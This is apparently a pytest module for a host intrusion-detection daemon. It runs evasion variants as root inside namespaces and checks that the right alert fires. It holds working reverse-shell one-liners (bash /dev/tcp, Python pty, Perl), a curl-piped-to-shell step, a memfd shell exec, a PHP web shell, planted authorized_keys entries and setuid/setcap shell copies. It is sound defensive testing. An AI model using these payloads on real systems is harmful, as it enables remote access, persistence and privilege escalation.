"""Adversarial review of issue 17: the obvious variants an attacker tries to slip past the rules
that tests/host/test_attacks_e2e.py proves for the plain technique.

Same daemon set-up (the ``agent`` fixture of test_attacks_e2e, one daemon per module). Each
test performs the variant for real as root and undoes it: copies live in the test's temporary
directory or a directory it creates and removes, users are deleted with their homes,
processes are stopped by PID, network parts stay inside a namespace the test creates.
"""

from __future__ import annotations

import json
import os
import secrets
import shutil
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
from conftest import AgentProcess

from tests.host.attack_lab import ATTACKER, Procs, alerts_of, first_seen, need, wait_port
from tests.host.test_attacks_e2e import agent, web

__all__ = ["agent", "web"]  # the module-scoped daemon and the namespace web server, re-used

pytestmark = pytest.mark.skipif(os.geteuid() != 0, reason="needs root (namespaces, audit)")


def _mentions(agent: AgentProcess, rule: str, since: float, text: str) -> bool:
    return any(text in json.dumps(a) for a in alerts_of(agent, rule, since))


def _wait_mention(agent: AgentProcess, rule: str, since: float, text: str,
                  timeout: float = 15.0) -> None:
    try:
        agent.wait_for(lambda: _mentions(agent, rule, since, text), timeout,
                       f"{rule} naming {text}")
    except AssertionError:
        seen = [(a["rule"]["name"], a["vedette"].get("matched"), a["event"].get("start"))
                for a in agent.alerts() if text in json.dumps(a) or first_seen(a) >= since]
        raise AssertionError(f"no {rule} alert naming {text}; alerts since: {seen}") from None


@pytest.fixture
def system_dir() -> Iterator[Path]:
    """A directory outside the writable temp folders (a root attacker's hiding place)."""
    path = Path("/usr/local/lib") / f"vdt-ev-{os.getpid() % 100000}{secrets.token_hex(2)}"
    path.mkdir(parents=True)
    try:
        yield path
    finally:
        shutil.rmtree(path, ignore_errors=True)


def _listener(netns: str, procs: Procs) -> tuple[int, subprocess.Popen[bytes]]:
    port = 4000 + secrets.randbelow(2000)
    listener = procs.spawn("ncat", "-n", "-l", ATTACKER, str(port), ns=netns,
                           stdin=subprocess.PIPE)
    wait_port(netns, ATTACKER, port)
    return port, listener


# -- shells under another name ----------------------------------------------------------------

def test_renamed_shell_copy_on_socket_stdio(agent: AgentProcess, netns: str, procs: Procs,
                                            system_dir: Path) -> None:
    """``cp /bin/dash /usr/local/lib/…/kthreadd`` run with a TCP socket on its stdio: the name
    is no shell's, the directory is not a temp folder; the copy is still a shell."""
    need("ncat", "bash")
    copy = system_dir / "kthreadd"
    shutil.copy("/bin/dash", copy)
    port, _ = _listener(netns, procs)
    t0 = time.time()
    procs.spawn("bash", "-c", f"exec {copy} -i <>/dev/tcp/{ATTACKER}/{port} >&0 2>&0", ns=netns)
    # bash opens the socket and execs the copy in place: bash's own exec event (when its audit
    # records are handled after the copy's exec) must not claim the copy's socket stdio
    agent.wait_for(lambda: any(a["vedette"]["matched"].get("process.name") == "kthreadd"
                               and a["vedette"]["matched"].get("vedette.process.shell_copy")
                               for a in alerts_of(agent, "reverse_shell_socket_stdio", t0)),
                   15, "reverse_shell_socket_stdio for the shell copy itself")


def test_renamed_shell_behind_a_pty_relay(agent: AgentProcess, netns: str, procs: Procs,
                                          system_dir: Path) -> None:
    """The python pty relay spawning a renamed shell copy (``pty.spawn('/…/kthreadd')``)."""
    need("ncat")
    copy = system_dir / "kthreadd"
    shutil.copy("/bin/dash", copy)
    port, _ = _listener(netns, procs)
    t0 = time.time()
    code = (f"import socket,os,pty;s=socket.socket();s.connect(({ATTACKER!r},{port}));"
            f"[os.dup2(s.fileno(),f) for f in(0,1,2)];pty.spawn({str(copy)!r})")
    victim = procs.spawn("python3", "-c", code, ns=netns)
    agent.wait_for(lambda: any(a["vedette"]["group"].get("process.parent.pid") == victim.pid
                               for a in alerts_of(agent, "shell_socket_relay", t0)),
                   15, "shell_socket_relay for the renamed shell")


def test_curl_piped_into_a_renamed_shell(agent: AgentProcess, netns: str,
                                         web: tuple[str, Path], procs: Procs,
                                         system_dir: Path) -> None:
    need("curl")
    base, root = web
    (root / "x.sh").write_text("echo pwned >/dev/null\n")
    copy = system_dir / "kthreadd"
    shutil.copy("/bin/dash", copy)
    t0 = time.time()
    run = procs.spawn("sh", "-c", f"curl -s {base}/x.sh | {copy}", ns=netns)
    assert run.wait(20) == 0
    _wait_mention(agent, "download_piped_to_interpreter", t0, str(copy))


def test_perl_reverse_shell(agent: AgentProcess, netns: str, procs: Procs) -> None:
    need("ncat", "perl")
    port, _ = _listener(netns, procs)
    t0 = time.time()
    code = (f'use Socket;$i="{ATTACKER}";$p={port};'
            'socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));'
            'if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");'
            'open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};')
    procs.spawn("perl", "-e", code, ns=netns)
    _wait_mention(agent, "interpreter_reverse_shell", t0, "PF_INET")
    _wait_mention(agent, "reverse_shell_socket_stdio", t0, "/bin/sh")


# -- programs without a file ----------------------------------------------------------------

def test_memfd_exec_of_a_shell(agent: AgentProcess) -> None:
    """A shell copied into a memfd and executed through /proc/self/fd/N (fexecve)."""
    tag = f"vdt{secrets.token_hex(3)}"
    code = (f"import os;fd=os.memfd_create({tag!r},0);"
            "os.write(fd,open('/bin/dash','rb').read());"
            "os.execve(f'/proc/self/fd/{fd}',['sh','-c','true'],{})")
    t0 = time.time()
    subprocess.run([sys.executable, "-c", code], check=True, timeout=20)
    _wait_mention(agent, "exec_deleted_binary", t0, f"memfd:{tag}")


# -- web shells under other extensions --------------------------------------------------------

def test_web_shell_with_other_extensions(agent: AgentProcess) -> None:
    created_www = not Path("/var/www").exists()
    site = Path("/var/www") / f"vdt-ev-{os.getpid() % 100000}{secrets.token_hex(2)}"
    names = ["shell.PHP", "s.phtml", "s.phar", "s.php3", "s.pht", "s.Php7"]
    t0 = time.time()
    try:
        site.mkdir(parents=True)
        for name in names:
            (site / name).write_text("<?php system($_GET['cmd']); ?>\n")
        for name in names:
            _wait_mention(agent, "web_shell_file_created", t0, f"{site}/{name}")
    finally:
        shutil.rmtree(site, ignore_errors=True)
        if created_www:
            shutil.rmtree("/var/www", ignore_errors=True)


# -- authorized_keys written another way ------------------------------------------------------

def test_authorized_keys_by_tee_and_by_rename(agent: AgentProcess) -> None:
    need("useradd", "userdel", "tee")
    users = [f"vdt{os.getpid() % 10000}{secrets.token_hex(2)}{i}" for i in range(2)]
    try:
        for user in users:
            subprocess.run(["useradd", "-m", "-s", "/bin/sh", user], check=True, timeout=30)
        time.sleep(1.5)  # the passwd change is read and the new homes watched
        t0 = time.time()
        tee_home, mv_home = (Path(f"/home/{u}") for u in users)
        (tee_home / ".ssh").mkdir(mode=0o700)
        subprocess.run(["tee", "-a", str(tee_home / ".ssh" / "authorized_keys")],
                       input=b"ssh-ed25519 AAAAC3Nza tee\n", check=True, timeout=10,
                       capture_output=True)
        (mv_home / ".ssh").mkdir(mode=0o700)
        staged = mv_home / ".ssh" / ".k.tmp"
        staged.write_text("ssh-ed25519 AAAAC3Nza mv\n")
        subprocess.run(["mv", str(staged), str(mv_home / ".ssh" / "authorized_keys")],
                       check=True, timeout=10)
        for home in (tee_home, mv_home):
            _wait_mention(agent, "ssh_authorized_keys_modified", t0,
                          f"{home}/.ssh/authorized_keys")
    finally:
        for user in users:
            subprocess.run(["userdel", "-r", "-f", user], check=False, timeout=30,
                           capture_output=True)


# -- setuid and capabilities without chmod ----------------------------------------------------

def test_setuid_by_install_and_capability_by_setcap(agent: AgentProcess,
                                                    tmp_path: Path) -> None:
    need("install", "setcap")
    src = tmp_path / "src"
    shutil.copy("/bin/dash", src)
    by_install, by_setcap = tmp_path / "sh-install", tmp_path / "sh-cap"
    shutil.copy("/bin/dash", by_setcap)
    t0 = time.time()
    subprocess.run(["install", "-m", "4755", str(src), str(by_install)], check=True,
                   timeout=10)
    subprocess.run(["setcap", "cap_setuid+ep", str(by_setcap)], check=True, timeout=10)
    _wait_mention(agent, "setuid_bit_set", t0, str(by_install))
    _wait_mention(agent, "file_capability_set", t0, str(by_setcap))
